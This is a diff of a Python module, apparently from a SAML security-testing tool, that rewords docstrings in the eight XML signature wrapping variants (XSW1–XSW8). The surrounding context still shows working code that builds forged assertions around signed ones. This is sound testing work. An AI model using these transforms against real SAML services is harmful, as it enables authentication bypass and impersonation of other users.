@@ -1,8 +1,8 @@
 """Signature wrapping: a forged assertion around, before or inside the signed one.
 
 The eight variants of the SAML Raider tool: 1 and 2 wrap the Response, 3 to 8 the assertion. The latter break the
-Response's own signature, which an attacker takes away: what is left is a valid signature, of the wrong thing. What is
-wrapped is posted in plain text, whatever the app's settings for encryption are.
+Response's own signature, so it is removed as an attacker would do: a valid signature over the wrong element is left. A
+wrapped message is posted in plain text, whatever the app's settings for encryption are.
 """
 
 from __future__ import annotations
@@ -26,7 +26,7 @@ _FORGED_NAME = "attacker"
 
 
 def wraps_response(arrange: Callable[[etree._Element, etree._Element], None]) -> Act:
-    """Makes a fault of a function that puts the signed Response, its signature taken out, into a forged one."""
+    """Makes a fault from a function that puts the signed Response, without its signature, into a forged one."""
 
     @wraps(arrange)
     def act(draft: Draft, _: Fault) -> Draft:
@@ -45,7 +45,7 @@ def wraps_response(arrange: Callable[[etree._Element, etree._Element], None]) ->
 
 
 def wraps_assertion(arrange: Callable[[etree._Element, etree._Element, etree._Element], None]) -> Act:
-    """Makes a fault of a function that puts a forged assertion beside the signed one into an unsigned Response."""
+    """Makes a fault from a function that puts a forged assertion beside the signed one, in an unsigned Response."""
 
     @wraps(arrange)
     def act(draft: Draft, _: Fault) -> Draft:
@@ -61,13 +61,13 @@ def wraps_assertion(arrange: Callable[[etree._Element, etree._Element, etree._El
 
 @wraps_response
 def xsw1(original: etree._Element, signature: etree._Element) -> None:
-    """The signed Response lies inside the signature of a forged one."""
+    """The signed Response is inside the signature of a forged one."""
     signature.append(original)
 
 
 @wraps_response
 def xsw2(original: etree._Element, signature: etree._Element) -> None:
-    """The signed Response lies before the signature of a forged one."""
+    """The signed Response is before the signature of a forged one."""
     signature.addprevious(original)
 
 
@@ -79,14 +79,14 @@ def xsw3(response: etree._Element, original: etree._Element, forged: etree._Elem
 
 @wraps_assertion
 def xsw4(response: etree._Element, original: etree._Element, forged: etree._Element) -> None:
-    """The signed assertion lies inside the forged one."""
+    """The signed assertion is inside the forged one."""
     response.replace(original, forged)
     forged.append(original)
 
 
 @wraps_assertion
 def xsw5(response: etree._Element, original: etree._Element, forged: etree._Element) -> None:
-    """The forged assertion carries the signature, and the signed one comes behind it."""
+    """The forged assertion carries the signature, and the signed one follows it."""
     _move_signature(original, forged)
     response.replace(original, forged)
     response.append(original)
@@ -94,7 +94,7 @@ def xsw5(response: etree._Element, original: etree._Element, forged: etree._Elem
 
 @wraps_assertion
 def xsw6(response: etree._Element, original: etree._Element, forged: etree._Element) -> None:
-    """The forged assertion carries the signature, and the signed one lies inside that."""
+    """The forged assertion carries the signature, which contains the signed one."""
     signature = _move_signature(original, forged)
     response.replace(original, forged)
     if signature is not None:
@@ -103,7 +103,7 @@ def xsw6(response: etree._Element, original: etree._Element, forged: etree._Elem
 
 @wraps_assertion
 def xsw7(response: etree._Element, original: etree._Element, forged: etree._Element) -> None:
-    """The forged assertion lies in Extensions, before the signed one."""
+    """The forged assertion is in Extensions, before the signed one."""
     extensions = etree.Element(f"{_SAMLP}Extensions")
     extensions.append(forged)
     response.insert(response.index(original), extensions)
@@ -111,7 +111,7 @@ def xsw7(response: etree._Element, original: etree._Element, forged: etree._Elem
 
 @wraps_assertion
 def xsw8(response: etree._Element, original: etree._Element, forged: etree._Element) -> None:
-    """The forged assertion carries the signature, and the signed one lies in an Object of that."""
+    """The forged assertion carries the signature, which contains the signed one in an Object."""
     signature = _move_signature(original, forged)
     response.replace(original, forged)
     if signature is not None:
